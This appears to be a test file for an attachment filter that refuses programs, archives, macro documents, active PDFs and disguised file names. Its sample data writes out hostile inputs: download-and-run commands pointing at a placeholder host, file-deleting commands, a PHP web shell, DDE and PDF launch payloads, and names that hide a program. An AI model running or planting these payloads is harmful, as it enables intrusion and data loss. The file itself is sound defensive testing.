"""Which files are wanted: by name, by declared type, and by content, each alone and against each other."""

import io
import struct
import time
import zipfile
import zlib

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from simulator.examples import OFFICE, STARTS, TYPES, office
from simulator.files import picture
from tickets.files.names import ENDINGS, HIDDEN, LARGEST, declared, refused, to_be_looked_at
from tickets.files.reasons import Reason
from tickets.files.verdict import looked

PNG = picture()
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n"
DOCX = office(".docx")
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
BINARY = "application/octet-stream"


def zipped(*names: str, start: bytes = b"", **contents: bytes) -> bytes:
    """A zip with these members, behind other bytes."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file:
        for name in names:
            file.writestr(name, contents.get(name, b"x"))
    return start + packed.getvalue()


APK = zipped("AndroidManifest.xml", "classes.dex", "META-INF/MANIFEST.MF")
JAR = zipped("META-INF/MANIFEST.MF", "Main.class")
PROGRAMS = {
    "apk": APK,
    "jar": JAR,
    "dex": b"dex\n035\0" + bytes(100),
    "elf": b"\x7fELF\x02\x01\x01" + bytes(100),
    "pe": b"MZ\x90\0\x03" + bytes(100),
    "mach-o": b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(100),
    "mach-o, 32 bits": b"\xfe\xed\xfa\xce" + bytes(100),
    "mach-o, fat": b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(100),
    "class": b"\xca\xfe\xba\xbe\0\0\x004" + bytes(100),
    "lnk": b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0" + bytes(100),
    "deb": b"!<arch>\ndebian-binary   ",
    "wasm": b"\0asm\x01\0\0\0",
    "chm": b"ITSF\x03\0\0\0" + bytes(100),
    "sh": b"#!/bin/sh\necho halo\n",
    "sh with a mark": b"\xef\xbb\xbf#!/bin/sh\necho halo\n",
    "python": b"#!/usr/bin/env python3\nprint('halo')\n",
}
ARCHIVES = {
    "zip": zipped("surat.txt"),
    "empty zip": zipped(),
    "zip with a program": zipped("undangan.exe"),
    "rar 4": b"Rar!\x1a\x07\0" + bytes(50),
    "rar 5": b"Rar!\x1a\x07\x01\0" + bytes(50),
    "7z": b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(50),
    "gz": b"\x1f\x8b\x08\0" + bytes(50),
    "bz2": b"BZh91AY&SY" + bytes(50),
    "xz": b"\xfd7zXZ\0\0\x04" + bytes(50),
    "zst": b"\x28\xb5\x2f\xfd" + bytes(50),
    "cab": b"MSCF\0\0\0\0" + bytes(50),
    "tar": b"surat.txt".ljust(257, b"\0") + b"ustar\x0000" + bytes(500),
    "iso": bytes(0x8000) + b"\x01CD001\x01" + bytes(3000),
}
SCRIPTS = {
    "bat": "@echo off\r\nstart undangan.exe\r\n",
    "cmd": "cmd /c del C:\\Users",
    "ps1": "$ErrorActionPreference = 'Stop'\nInvoke-WebRequest http://contoh.invalid/a -OutFile a",
    "ps1, one line": "IEX(New-Object Net.WebClient).DownloadString('http://contoh.invalid')",
    "vbs": 'Set sh = CreateObject("WScript.Shell")\nsh.Run "calc"',
    "vbs, plain": 'Dim nama\nOn Error Resume Next\nMsgBox "halo"',
    "js": "var x = new ActiveXObject('WScript.Shell');",
    "js, a function": "function buka(a) {\n  return a;\n}",
    "js, a page's": "eval(atob('YQ=='))",
    "sh without #!": "curl -s http://contoh.invalid/a.sh | sh\n",
    "sh, removing": "cd /sdcard\nrm -rf DCIM\n",
    "python without #!": "import os\nos.system('ls')\n",
    "python, a def": "def buka(nama):\n    return nama\n",
    "php": "<?php system($_GET['a']); ?>",
    "reg": "Windows Registry Editor Version 5.00\r\n",
    "url": "[InternetShortcut]\r\nURL=http://contoh.invalid\r\n",
    "desktop": "[Desktop Entry]\nExec=sh\n",
    "inf": "[autorun]\r\nopen=a.exe\r\n",
}
PAGES = {
    "html": "<!DOCTYPE html><html><body>halo</body></html>",
    "html in capitals": "\n\n<HTML><BODY onload=a()>",
    "a script alone": "halo <script>alert(1)</script>",
    "svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='a()'/>",
    "svg with a head": "<?xml version='1.0'?><svg/>",
}
LETTERS = {
    "plain": "Undangan tahlil hari Kamis pukul 19.00 di rumah Pak RT.",
    "many lines": "Yth. Bapak Lurah\r\n\r\nKami mohon lampu jalan diperbaiki.\r\n\tTerima kasih.\r\n",
    "letters of all kinds": "Jalan “Kalimantan” – 50% rusak; é, ñ, العربية, ꦲꦏ꧀ꦱꦫ 🙏",
    "a sign for less": "Anggaran < 5 juta dan > 2 juta; RT 02/RW 05 <mohon dibantu>",
    "words that look like commands": "Import barang. Set meja 5. Format surat: terlampir. Del, kapan?",
    "an evaluation": "Hasil eval (evaluasi) program dan function (fungsi) balai.",
    "what MZ begins": "MZ adalah singkatan dari Muhammad Zaini.",
    "blank lines": "\n" * 500 + "Selesai",
}


# -- what is wanted ------------------------------------------------------------------------------


WANTED = {
    "foto.jpg": ("image/jpeg", STARTS[".jpg"]),
    "FOTO.JPEG": ("image/jpeg", STARTS[".jpg"]),
    "layar.png": ("image/png", PNG),
    "stiker.webp": ("image/webp", STARTS[".webp"]),
    "IMG_0001.HEIC": ("image/heic", STARTS[".heic"]),
    "Surat undangan.pdf": ("application/pdf", PDF),
    "proposal.docx": (WORD, DOCX),
    "warga.xlsx": (f"{WORD[:46]}spreadsheetml.sheet", office(".xlsx")),
    "paparan.pptx": (f"{WORD[:46]}presentationml.presentation", office(".pptx")),
    "surat.odt": ("application/vnd.oasis.opendocument.text", office(".odt")),
    "catatan.txt": ("text/plain", b"Mohon dibantu"),
    "banjir.mp4": ("video/mp4", STARTS[".mp4"]),
    "rapat.mp3": ("audio/mpeg", STARTS[".mp3"]),
    "suara.ogg": ("audio/ogg", STARTS[".oga"]),
}


@pytest.mark.parametrize("name", WANTED)
def test_what_is_wanted_is_taken(name: str) -> None:
    mime, content = WANTED[name]
    for told in (mime, "", BINARY, f"{mime}; charset=binary", mime.upper()):
        assert refused("document", name, told, len(content)) is None
        assert looked("document", name, told, content) is None


@pytest.mark.parametrize(
    "name", ["Undangan", "Surat Bpk. Lurah", "rapat 12.30", "No. 5", "", "surat 👨‍👩‍👧.pdf", "v1.2.pdf"]
)
def test_names_as_people_give_them(name: str) -> None:
    assert refused("document", name, "application/pdf", 9) is None
    assert looked("document", name, "application/pdf", PDF) is None


def test_phones_that_declare_a_document_as_a_zip() -> None:
    assert refused("document", "a.docx", "application/zip", 9) is None
    assert looked("document", "a.docx", "application/zip", DOCX) is None


def test_without_name_and_type_the_content_decides() -> None:
    assert refused("document", "", "", 0) is None
    for _, content in WANTED.values():
        if content != b"Mohon dibantu":
            assert looked("document", "", "", content) is None
    assert looked("document", "", "", b"Mohon dibantu") is Reason.DISGUISED


@pytest.mark.parametrize("text", LETTERS.values(), ids=LETTERS)
@pytest.mark.parametrize("coding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_texts(text: str, coding: str) -> None:
    if coding.startswith("utf-16-") and not text.isascii():
        return  # without a mark only Latin letters are known
    assert looked("document", "catatan.txt", "text/plain", text.encode(coding)) is None


def test_a_text_of_old_windows() -> None:
    assert looked("document", "a.txt", "text/plain", "Café – 5 km".encode("cp1252")) is None


@pytest.mark.parametrize("kind", ["photo", "voice", "video_note"])
def test_what_telegram_makes_itself_is_taken(kind: str) -> None:
    assert refused(kind, "", "", 900_000_000) is None
    assert not to_be_looked_at(kind, 10)


@pytest.mark.parametrize(
    ("kind", "name", "mime"),
    [
        ("video", "", "video/mp4"),
        ("video", "VID 2026", "video/quicktime"),
        ("video", "a.mkv", "video/x-matroska"),
        ("audio", "lagu.mp3", "audio/mpeg"),
        ("audio", "", ""),
        ("animation", "a.gif.mp4", "video/mp4"),
        ("animation", "a.gif", "image/gif"),
    ],
)
def test_videos_and_sounds_sent_as_such(kind: str, name: str, mime: str) -> None:
    assert refused(kind, name, mime, 900_000_000) is None
    assert not to_be_looked_at(kind, LARGEST + 1)
    assert to_be_looked_at(kind, LARGEST)
    assert looked(kind, name, mime, bytes(64)) is None


# -- refused by name ----------------------------------------------------------------------------


NAMED = {
    Reason.PROGRAM: """
        undangan.apk UNDANGAN.APK a.apks a.xapk a.jar a.dex a.elf a.exe a.msi a.scr a.com a.pif a.dll a.so
        a.bat a.cmd a.ps1 a.vbs a.vbe a.js a.jse a.wsf a.hta a.lnk a.url a.reg a.sh a.py a.pl a.php a.deb
        a.rpm a.dmg a.app a.ipa a.chm a.desktop foto.jpg.apk surat.pdf.exe""",
    Reason.ARCHIVE: "a.zip a.rar a.7z a.gz a.tgz a.tar a.tar.gz a.bz2 a.xz a.zst a.iso a.img a.cab a.r00",
    Reason.WEB: "a.html a.htm a.xhtml a.mht a.svg a.svgz a.xml",
    Reason.MACRO: "a.docm a.dotm a.xlsm a.xlsb a.xlam a.pptm a.ppsm",
    Reason.AS_PDF: "a.doc a.dot a.xls a.ppt a.pps a.rtf a.ods a.odp a.csv a.dotx",
    Reason.OTHER: "a.xyz a.gif a.bmp foto.jрg surat.pdƒ",
}


@pytest.mark.parametrize(
    ("name", "reason"), [(name, reason) for reason, names in NAMED.items() for name in names.split()]
)
def test_names_that_are_refused(name: str, reason: Reason) -> None:
    """Whatever their sender declares them to be."""
    for mime in ("", BINARY, "application/pdf", "image/jpeg", "text/plain"):
        assert refused("document", name, mime, 9) is reason


@pytest.mark.parametrize(
    "name",
    [
        "undangan.apk.", "undangan.apk ", "undangan.apk. . ", "undangan.apk\u00a0", "undangan. apk",
        "undangan.a\u200bpk", "undangan.apk\u200b", "undangan．ａｐｋ", "undangan․apk", "undangan.ＡＰＫ",
        "foto.jpg" + " " * 200 + ".apk", "undangan\u202efdp.apk", "undangan.pdf\0.apk", "a/b.apk", "a\\b.apk",
    ],
)  # fmt: skip
def test_names_that_hide_their_ending(name: str) -> None:
    assert refused("document", name, "", 9) is Reason.PROGRAM


@pytest.mark.parametrize(
    "name",
    [
        "\u202egpj.pdf", "kpa.\u202efdp.pdf", "surat\u2066.pdf", "undangan.apk.pdf", "undangan.apk .jpg",
        "undangan.exe.docx", "foto.JS.png", "undangan.apk\0.pdf", "surat\x07.pdf", "a.zip.pdf", "a.html.pdf",
        "setup.exe.baru.pdf", "undangan.ａｐｋ.pdf",
    ],
)  # fmt: skip
def test_names_that_mislead(name: str) -> None:
    assert refused("document", name, "", 9) is Reason.DISGUISED


@pytest.mark.parametrize("name", ["tokopedia.com.pdf", "surat.doc.pdf", "surat.docx.pdf", "lampiran.1.pdf"])
def test_names_with_dots_that_are_harmless(name: str) -> None:
    assert refused("document", name, "application/pdf", 9) is None


@given(st.sampled_from(sorted(HIDDEN)), st.sampled_from(["pdf", "jpg", "docx", "txt"]), st.text(max_size=20))
def test_no_program_before_the_ending(hidden: str, last: str, name: str) -> None:
    assert refused("document", f"{name}.{hidden}.{last}", "", 9) is not None


@given(st.text(max_size=40), st.text(max_size=40), st.sampled_from(sorted(ENDINGS)))
def test_any_name_gets_a_verdict(name: str, mime: str, ending: str) -> None:
    for kind in ("document", "video", "audio"):
        verdict = refused(kind, f"{name}.{ending}", mime, 9)
        if isinstance(ENDINGS[ending], Reason):
            assert verdict is not None


# -- refused by what is declared -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("mime", "reason"),
    [
        ("application/vnd.android.package-archive", Reason.PROGRAM),
        ("application/java-archive", Reason.PROGRAM),
        ("application/x-msdownload", Reason.PROGRAM),
        ("application/x-dosexec", Reason.PROGRAM),
        ("application/vnd.microsoft.portable-executable", Reason.PROGRAM),
        ("application/x-executable", Reason.PROGRAM),
        ("application/x-sharedlib", Reason.PROGRAM),
        ("application/x-mach-binary", Reason.PROGRAM),
        ("application/x-sh", Reason.PROGRAM),
        ("text/x-python", Reason.PROGRAM),
        ("text/javascript", Reason.PROGRAM),
        ("application/x-msi", Reason.PROGRAM),
        ("application/x-ms-shortcut", Reason.PROGRAM),
        ("text/html", Reason.WEB),
        ("image/svg+xml", Reason.WEB),
        ("application/vnd.ms-word.document.macroEnabled.12", Reason.MACRO),
        ("application/x-7z-compressed", Reason.ARCHIVE),
        ("application/vnd.rar", Reason.ARCHIVE),
        ("application/gzip", Reason.ARCHIVE),
        ("application/x-iso9660-image", Reason.ARCHIVE),
        ("application/msword", Reason.AS_PDF),
        ("application/vnd.ms-excel", Reason.AS_PDF),
        ("application/rtf", Reason.AS_PDF),
        ("image/bmp", Reason.OTHER),
        ("chemical/x-pdb", Reason.OTHER),
    ],
)
def test_declared_types_that_are_refused(mime: str, reason: Reason) -> None:
    assert refused("document", "foto.jpg", mime, 9) is reason
    assert refused("document", "surat", mime, 9) is reason


def test_a_zip_is_no_document_by_itself() -> None:
    assert refused("document", "surat", "application/zip", 9) is Reason.ARCHIVE
    assert refused("document", "surat.pdf", "application/zip", 9) is Reason.DISGUISED


@pytest.mark.parametrize(
    ("name", "mime"),
    [
        ("foto.jpg", "application/pdf"), ("surat.pdf", "image/jpeg"), ("a.docx", "application/pdf"),
        ("a.xlsx", WORD), ("catatan.txt", "application/pdf"), ("a.mp4", "image/png"), ("a.png", "video/mp4"),
    ],
)  # fmt: skip
def test_name_and_declared_type_must_agree(name: str, mime: str) -> None:
    assert refused("document", name, mime, 9) is Reason.DISGUISED


def test_photos_of_one_type_that_call_themselves_another_are_photos() -> None:
    assert refused("document", "foto.jpg", "image/png", 9) is None
    assert looked("document", "foto.jpg", "image/png", STARTS[".webp"]) is None


@pytest.mark.parametrize("kind", ["video", "audio", "animation"])
def test_a_video_or_sound_that_is_something_else(kind: str) -> None:
    assert refused(kind, "undangan.apk", "video/mp4", 9) is Reason.PROGRAM
    assert refused(kind, "a\u202e3pm.mp4", "video/mp4", 9) is Reason.DISGUISED
    assert refused(kind, "a.mp4", "application/vnd.android.package-archive", 9) is Reason.PROGRAM
    assert refused(kind, "a.mp4", "application/pdf", 9) is Reason.DISGUISED
    for content in PROGRAMS.values():
        assert looked(kind, "a.mp4", "video/mp4", content) is not None
    assert looked(kind, "a.mp4", "video/mp4", PAGES["html"].encode()) is Reason.WEB


# -- refused by size --------------------------------------------------------------------------------


def test_a_document_that_cannot_be_downloaded() -> None:
    assert refused("document", "surat.pdf", "application/pdf", LARGEST) is None
    assert refused("document", "surat.pdf", "application/pdf", LARGEST + 1) is Reason.TOO_BIG
    assert refused("document", "a.apk", "", LARGEST + 1) is Reason.PROGRAM


# -- refused by content ----------------------------------------------------------------------------


@pytest.mark.parametrize("name", [*WANTED, "", "surat"])
@pytest.mark.parametrize("content", PROGRAMS.values(), ids=PROGRAMS)
def test_programs_under_any_name(name: str, content: bytes) -> None:
    assert looked("document", name, "", content) is Reason.PROGRAM


@pytest.mark.parametrize("name", [*WANTED, ""])
@pytest.mark.parametrize("content", ARCHIVES.values(), ids=ARCHIVES)
def test_archives_under_any_name(name: str, content: bytes) -> None:
    assert looked("document", name, "", content) is Reason.ARCHIVE


@pytest.mark.parametrize("name", ["catatan.txt", "foto.jpg", "surat.pdf", ""])
@pytest.mark.parametrize("coding", ["utf-8", "utf-8-sig", "utf-16"])
@pytest.mark.parametrize("script", SCRIPTS.values(), ids=SCRIPTS)
def test_scripts_under_any_name(name: str, coding: str, script: str) -> None:
    for text in (script, f"Catatan\r\n{script}" if not script.startswith(("Windows", "@echo")) else script):
        assert looked("document", name, "", text.encode(coding)) in (Reason.PROGRAM, Reason.WEB)


@pytest.mark.parametrize("name", ["catatan.txt", "foto.jpg", ""])
@pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)
def test_pages_under_any_name(name: str, page: str) -> None:
    assert looked("document", name, "", page.encode()) is Reason.WEB


@pytest.mark.parametrize("name", ["surat.docx", "surat.pdf", "foto.jpg", ""])
def test_old_documents_under_any_name(name: str) -> None:
    assert looked("document", name, "", CFB) is Reason.AS_PDF
    assert looked("document", name, "", b"{\\rtf1 halo}") is Reason.AS_PDF


@pytest.mark.parametrize("name", [name for name in WANTED if not name.endswith(".txt")])
def test_each_content_under_the_name_of_another(name: str) -> None:
    mime, own = WANTED[name]
    for other, (_, content) in WANTED.items():
        same = {declared(mime), declared(WANTED[other][0])}
        if len(same) > 1:
            assert looked("document", name, mime, content) is Reason.DISGUISED, other
    assert looked("document", name, mime, own) is None


@pytest.mark.parametrize("name", WANTED)
def test_what_is_empty_or_nothing_known(name: str) -> None:
    assert looked("document", name, "", b"") is Reason.EMPTY
    assert looked("document", name, "", bytes(1000)) is Reason.DISGUISED
    assert looked("document", name, "", bytes(range(0x80, 0xA0)) * 9) is Reason.DISGUISED


@pytest.mark.parametrize(
    "start", [b"GIF89a", b"\xff\xd8\xff\xe0", b"MZ  ", b"x", b"%!PS\n", b"<html>", bytes(9)]
)
def test_a_pdf_behind_other_bytes(start: bytes) -> None:
    assert looked("document", "surat.pdf", "application/pdf", start + PDF) is not None


def test_a_pdf_behind_a_blank_line() -> None:
    assert looked("document", "surat.pdf", "application/pdf", b"\xef\xbb\xbf\r\n" + PDF) is None


@pytest.mark.parametrize("head", [PNG, PDF, STARTS[".jpg"], STARTS[".mp4"], b"Catatan rapat\n"])
def test_a_zip_behind_something_else(head: bytes) -> None:
    name = {PNG: "a.png", PDF: "a.pdf", STARTS[".jpg"]: "a.jpg", STARTS[".mp4"]: "a.mp4"}.get(head, "a.txt")
    assert looked("document", name, "", zipped("AndroidManifest.xml", start=head)) is Reason.DISGUISED


# -- PDF ---------------------------------------------------------------------------------------------


def packed(told: bytes) -> bytes:
    """A PDF with this in a packed stream of objects."""
    body = zlib.compress(told)
    return (
        PDF
        + b"9 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\r\n"
        + body
        + b"\nendstream\nendobj\n"
    )


@pytest.mark.parametrize(
    "told",
    [
        b"<< /S /JavaScript /JS (app.alert(1)) >>", b"<</S/JavaScript/JS 7 0 R>>", b"<< /JS <6170> >>",
        b"<< /S /Launch /F (calc.exe) >>", b"<< /Type /EmbeddedFile >>", b"<< /EmbeddedFiles 4 0 R >>",
        b"<< /S /J#61vaScript >>", b"<< /S /#4caunch >>", b"<< /S /#4Caunch >>", b"<< /S /GoToE >>",
        b"<< /#4AS (a) >>", b"<< /Type /RichMedia >>",
    ],
)  # fmt: skip
def test_pdfs_that_do_something(told: bytes) -> None:
    assert looked("document", "a.pdf", "application/pdf", PDF + told) is Reason.ACTIVE
    assert looked("document", "a.pdf", "application/pdf", packed(told)) is Reason.ACTIVE


@pytest.mark.parametrize(
    "told",
    [
        b"<< /OpenAction [3 0 R /Fit] >>", b"<< /S /URI /URI (https://contoh.invalid) >>",
        b"/JSX /Launcher 5",
        b"<< /Length 9 >>\nstream\n\x01/JS (\x02endstream", b"(JavaScript dan Launch)",
        b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nrusak\nendstream",
    ],
)  # fmt: skip
def test_pdfs_that_do_nothing(told: bytes) -> None:
    assert looked("document", "a.pdf", "application/pdf", PDF + told) is None


# -- office documents -----------------------------------------------------------------------------


BAD_PARTS = {
    "macros of Word": {"word/vbaProject.bin": CFB},
    "macros by name only": {"word/vbaProject.bin": b""},
    "macros of Excel": {"xl/vbaProject.bin": CFB},
    "a sheet of old macros": {"xl/macrosheets/sheet1.xml": b"<a/>"},
    "a control": {"word/activeX/activeX1.xml": b"<a/>"},
    "an object": {"word/embeddings/oleObject1.bin": CFB},
    "an object under another name": {"word/media/gambar.jpg": CFB},
    "a program": {"word/embeddings/undangan.exe": b"MZ\0\0"},
    "a program under another name": {"word/media/gambar.jpg": PROGRAMS["pe"]},
    "a script": {"customXml/a.vbs": b"x"},
    "an app in it": {"word/embeddings/a.bin": APK},
    "an archive in it": {"word/embeddings/a.bin": ARCHIVES["rar 5"]},
    "a template from elsewhere": {
        "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats'
        b'.org/officeDocument/2006/relationships/attachedTemplate" Target="http://contoh.invalid/a.dotm" '
        b'TargetMode="External"/></Relationships>'
    },
    "an object from elsewhere": {
        "word/_rels/document.xml.rels": b'<Relationship TargetMode="External" Target="a" '
        b'Type="http://x/oleObject"/>'
    },
    "a field that starts something": {
        "word/styles.xml": b'<w:instrText>DDEAUTO c:\\\\cmd.exe "/k"</w:instrText>'
    },
    "a link that starts something": {"xl/externalLinks/externalLink1.xml": b"<ddeLink ddeService='cmd'/>"},
    "an action": {"ppt/slides/slide1.xml": b'<a:hlinkClick action="ppaction://program"/>'},
    "Basic": {"Basic/Standard/Module1.xml": b"<a/>"},
    "scripts": {"Scripts/python/a.py": b"x"},
    "a document with macros in it": {
        "word/embeddings/buku.xlsx": office(".xlsx", {"xl/vbaProject.bin": CFB}),
    },
}


@pytest.mark.parametrize("parts", BAD_PARTS.values(), ids=BAD_PARTS)
@pytest.mark.parametrize("ending", [*OFFICE, ".odt"])
def test_documents_that_bring_a_program_along(parts: dict[str, bytes], ending: str) -> None:
    assert looked("document", f"a{ending}", "", office(ending, parts)) in (Reason.MACRO, Reason.PROGRAM)


GOOD_PARTS = {
    "pictures": {"word/media/image1.jpeg": STARTS[".jpg"], "word/media/image2.png": PNG},
    "a drawing": {"ppt/media/image1.emz": b"\x1f\x8b\x08\0abc"},
    "settings of a printer": {"xl/printerSettings/printerSettings1.bin": b"H\0P\0" + bytes(200)},
    "a link": {
        "word/_rels/document.xml.rels": b'<Relationship Type="http://x/hyperlink" Target="a" '
        b'TargetMode="External"/>'
    },
    "a table behind a chart": {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": office(".xlsx")},
    "words about macros": {"word/document2.xml": b"<w:t>Belajar makro dan Basic</w:t>"},
}


@pytest.mark.parametrize("parts", GOOD_PARTS.values(), ids=GOOD_PARTS)
@pytest.mark.parametrize("ending", OFFICE)
def test_documents_without(parts: dict[str, bytes], ending: str) -> None:
    assert looked("document", f"a{ending}", "", office(ending, parts)) is None


@pytest.mark.parametrize(
    "main", ["ms-word.document.macroEnabled.main+xml", "ms-excel.sheet.macroEnabled.main+xml"]
)
def test_a_document_with_macros_that_was_renamed(main: str) -> None:
    told = f'<Override ContentType="application/vnd.{main}"/>'.encode()
    assert looked("document", "a.docx", WORD, zipped(TYPES, **{TYPES: told})) is Reason.MACRO


def test_documents_under_each_others_names() -> None:
    for one in OFFICE:
        for other in OFFICE:
            verdict = looked("document", f"a{one}", "", office(other))
            assert verdict is (None if one == other else Reason.DISGUISED)


def test_documents_that_are_locked_or_rare() -> None:
    locked = {"META-INF/manifest.xml": b"<manifest:encryption-data/>"}
    assert looked("document", "a.odt", "", office(".odt", locked)) is Reason.AS_PDF
    sheet = zipped("mimetype", mimetype=b"application/vnd.oasis.opendocument.spreadsheet")
    assert looked("document", "a.odt", "", sheet) is Reason.AS_PDF


def test_a_document_that_is_cut_off_or_made_up() -> None:
    assert looked("document", "a.docx", "", DOCX[:-40]) is Reason.DAMAGED
    assert looked("document", "a.docx", "", b"PK\x03\x04" + bytes(100)) is Reason.DAMAGED


def test_a_document_that_swells_is_not_unpacked() -> None:
    begun = time.monotonic()
    bomb = zipped(TYPES, "word/document.xml", "word/a.xml", **{
        TYPES: f'<Override ContentType="{OFFICE[".docx"][1]}"/>'.encode(), "word/a.xml": bytes(50 << 20),
    })  # fmt: skip
    begun = time.monotonic()
    assert looked("document", "a.docx", "", bomb) is Reason.DAMAGED
    assert time.monotonic() - begun < 2


def test_a_document_that_lies_about_its_size() -> None:
    """The directory says that a part is small; no more than that is unpacked."""
    parts = {TYPES: f'<Override ContentType="{OFFICE[".docx"][1]}"/>'.encode(), "word/a.xml": bytes(30 << 20)}
    whole = bytearray(zipped(*parts, **parts))
    place = whole.rindex(b"PK\x01\x02")
    whole[place + 24 : place + 28] = struct.pack("<I", 100)
    assert looked("document", "a.docx", "", bytes(whole)) is Reason.DAMAGED


# -- whatever comes ------------------------------------------------------------------------------


@given(st.sampled_from([*WANTED, ""]), st.binary(max_size=300), st.binary(max_size=8))
def test_any_content_gets_a_verdict(name: str, content: bytes, start: bytes) -> None:
    for head in (b"", start, b"PK\x03\x04", b"%PDF-1.4\n", b"\xff\xfe"):
        looked("document", name, "", head + content)
        looked("video", name, "video/mp4", head + content)


@example(483, 0)  # the name of a part is empty then
@given(st.integers(0, len(DOCX) - 1), st.integers(0, 255))
def test_a_document_with_a_wrong_byte_gets_a_verdict(place: int, byte: int) -> None:
    looked("document", "a.docx", "", DOCX[:place] + bytes([byte]) + DOCX[place + 1 :])


@pytest.mark.parametrize(
    "piece",
    [
        b"<< /A 1 >> stream\n", b">>stream\n", b"/JS", b"#41", b"<<", b"curl ", b"def a(", b"function(",
        b"\n",        b"for ;", b"<", b"[", b" ", b"@", b"PK\x05\x06",
    ],
)  # fmt: skip
def test_nothing_takes_long(piece: bytes) -> None:
    begun = time.monotonic()
    looked("document", "a.pdf", "", b"%PDF-1.7\n" + piece * ((2 << 20) // len(piece)))
    looked("document", "a.txt", "", piece * ((2 << 20) // len(piece)))
    assert time.monotonic() - begun < 4
